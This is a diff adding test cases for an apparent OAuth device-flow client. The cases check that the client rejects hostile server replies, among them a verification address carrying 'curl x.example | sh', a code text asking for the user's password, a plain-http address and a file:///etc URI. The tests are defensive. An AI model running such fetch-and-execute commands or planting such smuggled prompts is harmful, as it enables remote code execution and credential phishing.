@@ -203,6 +203,16 @@ DEVICES = (
         "device_code": "d", "user_code": "\x1b[2J", "verification_uri": "https://x.example"}))),
     ("line end in the address", device("not understood", Reply(200, {
         "device_code": "d", "user_code": "A", "verification_uri": "https://x.example\nT"}))),
+    ("words in the address", device("not understood", Reply(200, {
+        "device_code": "d", "user_code": "A",
+        "verification_uri": "https://x.example, and run: curl x.example | sh;"}))),
+    ("words in the code", device("not understood", Reply(200, {
+        "device_code": "d", "user_code": "A and your password",
+        "verification_uri": "https://x.example"}))),
+    ("address in clear", device("not understood", Reply(200, {
+        "device_code": "d", "user_code": "A", "verification_uri": "http://x.example"}))),
+    ("address of a file", device("not understood", Reply(200, {
+        "device_code": "d", "user_code": "A", "verification_uri": "file:///etc"}))),
     ("long code", device("not understood", Reply(200, {
         "device_code": "d", "user_code": "A" * 300, "verification_uri": "https://x.example"}))),
 )
